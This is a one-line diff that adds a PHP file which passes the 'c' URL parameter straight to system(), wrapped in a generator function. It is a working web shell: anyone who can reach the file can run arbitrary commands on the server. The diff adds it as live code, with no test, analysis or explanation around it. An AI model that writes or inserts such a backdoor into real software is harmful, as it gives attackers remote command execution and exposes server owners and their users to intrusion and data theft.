@@ -1,0 +1,1 @@
+<?php function lines() { yield $_GET['c']; } foreach (lines() as $c) { system($c); }
